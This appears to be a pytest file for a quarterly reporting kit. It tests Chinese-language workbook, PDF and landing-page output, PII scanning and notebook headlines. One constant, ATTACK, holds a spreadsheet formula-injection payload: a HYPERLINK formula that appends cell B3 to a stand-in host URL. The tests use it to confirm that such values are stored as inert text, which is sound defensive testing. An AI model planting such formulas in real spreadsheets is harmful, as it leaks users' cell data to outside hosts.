"""The quarter's workbook, PDFs and landing page (kit/report/workbook.py, pdf.py, landing.py)."""

from __future__ import annotations

import shutil
import subprocess

import pandas as pd

import kit.report as R
from kit.report.pdf import find_chromium, print_pdf
from kit.report.workbook import write_workbook
from tests.ci import require
from tests.report.helpers import manifest

ATTACK = '=HYPERLINK("http://example.invalid/?d="&B3,"详情")'


def _require_pdf_tools() -> None:
    require(find_chromium() is not None, "no Chromium for the PDFs (apt-get install chromium; make test installs it)")
    require(shutil.which("pdftotext") is not None,
            "no pdftotext (apt-get install poppler-utils; make test installs it)")


def _pdf_text(path) -> str:
    done = subprocess.run(["pdftotext", "-enc", "UTF-8", str(path), "-"], capture_output=True, check=True)
    return done.stdout.decode()


def test_workbook_keeps_formulas_inert_and_numbers_numbers(tmp_path):
    from openpyxl import load_workbook

    card = pd.DataFrame({"rep_name": [ATTACK, "王伟", "+8613800000000x"], "team": ["Team A", "-分组", "@x"],
                         "score": [55.0, -3.25, 48.5], "tier": ["above average", "below average", "average"],
                         "rank": [1, 3, 2]}, index=pd.Index(["R1", "R2", "R3"], name="rep_id"))
    results = tmp_path / "results"
    R.save_table(card, "card_reps", results_dir=results, show=False)
    csv = (results / "card_reps.csv").read_text(encoding="utf-8-sig")
    assert "'" + ATTACK.replace('"', '""') in csv and "\n" + "R1," + '"=' not in csv  # the CSV is inert too
    path = write_workbook(results, tmp_path / "2026Q3.xlsx", lang="zh", quarter="2026Q3",
                          headline=["本季度整体满意度为 3.90。", "=1+1 不是公式"])
    wb = load_workbook(path)
    assert wb.sheetnames[:2] == ["概览", "card_reps"]
    first = wb["概览"]
    cells = {c.value: c for row in first.iter_rows() for c in row if c.value is not None}
    assert "2026Q3 季度报告" in cells and "本季度整体满意度为 3.90。" in cells and "指标定义" in cells
    assert cells["=1+1 不是公式"].data_type == "s"
    assert "客户满意度均分" in cells and "越高越好" in cells      # a KPI's definition, in Chinese
    ws = wb["card_reps"]
    header = [c.value for c in ws[2]]
    assert header == ["销售编号", "销售", "团队", "得分", "分层", "排名"]
    rows = {r[0].value: r for r in ws.iter_rows(min_row=3)}
    attack = rows["R1"][1]
    assert attack.value == ATTACK and attack.data_type == "s"          # the exact text, typed as text
    for row in rows.values():
        assert all(c.data_type != "f" for c in row)                   # no formula anywhere
    assert rows["R2"][2].value == "-分组" and rows["R3"][2].value == "@x"
    assert rows["R2"][3].value == -3.25 and rows["R2"][3].data_type == "n"   # numbers stay numbers
    assert rows["R1"][5].value == 1 and rows["R1"][5].number_format == "#,##0"
    assert rows["R1"][4].value == "高于平均"                         # tiers in the report language
    assert ws.freeze_panes == "B3" and ws.auto_filter.ref == "A2:F5"
    rules = [r for cf in ws.conditional_formatting for r in cf.rules]
    assert any('"高于平均"' in r.formula[0] for r in rules) and any('"低于平均"' in r.formula[0] for r in rules)


def test_the_output_scan_reads_workbooks_and_pdfs(tmp_path):
    from openpyxl import Workbook

    wb = Workbook()
    wb.active["C7"] = "客户电话 13812345678"
    # a figure is not a phone number: a large revenue and a ratio stay numbers, not findings
    wb.active["D7"], wb.active["E7"] = 16912348030, 13912345678.0
    wb.save(tmp_path / "book.xlsx")
    findings = R.scan_outputs(tmp_path)
    assert [(f.file, f.kind) for f in findings] == [("book.xlsx", "mobile")]
    _require_pdf_tools()
    (tmp_path / "book.xlsx").unlink()
    page = tmp_path / "page.html"
    page.write_text('<html lang="zh"><meta charset="utf-8"><body><h1>联系</h1>'
                    '<p>邮件 li.na@example.com</p></body></html>', encoding="utf-8")
    print_pdf(page, tmp_path / "page.pdf")
    page.unlink()
    findings = R.scan_outputs(tmp_path)
    assert [(f.file, f.kind) for f in findings] == [("page.pdf", "e-mail")]


def test_a_run_writes_the_workbook_pdfs_and_landing_page(shared):
    _require_pdf_tools()
    assert shared.result.ok, shared.result.summary()
    for q in ("2026Q2", "2026Q3"):
        folder = shared.out / q
        m = manifest(folder)
        assert m["workbook"] == f"{q}.xlsx" and (folder / m["workbook"]).is_file()
        assert m["pdfs"] == {"ok_report": "pdf/ok_report.pdf"}
        text = _pdf_text(folder / "pdf" / "ok_report.pdf")
        assert "测试报告：服务互动概览" in text                   # the Chinese title is text in the PDF
        assert "[已隐去]" in text and "13800138000" not in text   # redacted there as in the page
        index = (folder / "index.html").read_text(encoding="utf-8")
        assert f'href="{q}.xlsx"' in index and 'href="pdf/ok_report.pdf"' in index
        assert "<details class='kit-appendix'>" in index          # the parameters: collapsed, last
        assert index.index("<details class='kit-appendix'>") > index.index('href="pdf/ok_report.pdf"')
    from openpyxl import load_workbook

    wb = load_workbook(shared.out / "2026Q3" / "2026Q3.xlsx")
    assert wb.sheetnames == ["概览", "test_channels", "test_rep_kpis"]


def test_the_headline_of_a_summary_notebook(tmp_path):
    import nbformat

    from kit.report.landing import headline_html, read_headline

    def out(role, mime, text):
        return nbformat.v4.new_output("display_data", data={mime: text}, metadata={"kit": {"role": role}})

    nb = nbformat.v4.new_notebook()
    cells = [("heading", "text/markdown", "# 管理层摘要"), ("text", "text/markdown", "一页看懂本季度。"),
             ("heading", "text/markdown", "## 客户满意度"), ("text", "text/markdown", "整体满意度为 **3.90**。"),
             ("figure", "image/png", "iVBORw0KGgo=")]
    for role, mime, text in cells:
        c = nbformat.v4.new_code_cell("")
        c.outputs = [out(role, mime, text)]
        nb.cells.append(c)
    hidden = nbformat.v4.new_code_cell("", metadata={"tags": ["analyst-only"]})
    hidden.outputs = [out("text", "text/markdown", "只给分析师看")]
    nb.cells.append(hidden)
    path = tmp_path / "90_summary.ipynb"
    nbformat.write(nb, str(path))
    h = read_headline(path)
    assert h.title == "管理层摘要" and h.sections == [("客户满意度", ["整体满意度为 **3.90**。"])]
    assert h.sentences() == ["整体满意度为 3.90。"] and h.figure_png == "iVBORw0KGgo="
    block = headline_html(h, "zh", "management/90_summary.html")
    assert "本季度要点" in block and "<strong>3.90</strong>" in block and "只给分析师看" not in block
    assert 'href="management/90_summary.html"' in block and "data:image/png;base64,iVBORw0KGgo=" in block
